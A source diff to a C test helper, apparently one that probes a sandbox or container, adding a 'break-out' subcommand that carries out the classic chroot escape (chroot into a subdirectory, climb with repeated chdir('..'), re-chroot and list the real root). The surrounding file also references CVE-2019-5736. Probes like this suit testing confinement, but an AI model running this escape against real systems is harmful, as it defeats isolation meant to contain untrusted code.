@@ -3,6 +3,7 @@
  * as a number where a call failed.
  */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
@@ -44,6 +45,25 @@ static void keyring(void)
 static void join_keyring(const char *name)
 {
 	print_errno(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name));
+}
+
+/* The oldest way out of chroot(2): a working directory that is not below the new root. */
+static void break_out(void)
+{
+	mkdir("/tmp/in", 0755);
+	if (chdir("/") < 0 || chroot("/tmp/in") < 0) {
+		print_errno(-1);
+		return;
+	}
+	for (int i = 0; i < 64; i++)
+		if (chdir("..") < 0)
+			break;
+	DIR *directory = chroot(".") < 0 ? NULL : opendir("/");
+	if (directory == NULL)
+		print_errno(-1);
+	for (struct dirent *entry; directory != NULL && (entry = readdir(directory)) != NULL;)
+		if (entry->d_name[0] != '.')
+			puts(entry->d_name);
 }
 
 /* CVE-2019-5736: writes to the program that runs a process. */
@@ -138,6 +158,8 @@ int main(int argc, char **argv)
 		terminal_input();
 	else if (strcmp(what, "keyring") == 0)
 		keyring();
+	else if (strcmp(what, "break-out") == 0)
+		break_out();
 	else if (strcmp(what, "join-keyring") == 0 && argc > 2)
 		join_keyring(argv[2]);
 	else if (strcmp(what, "overwrite") == 0 && argc > 2)
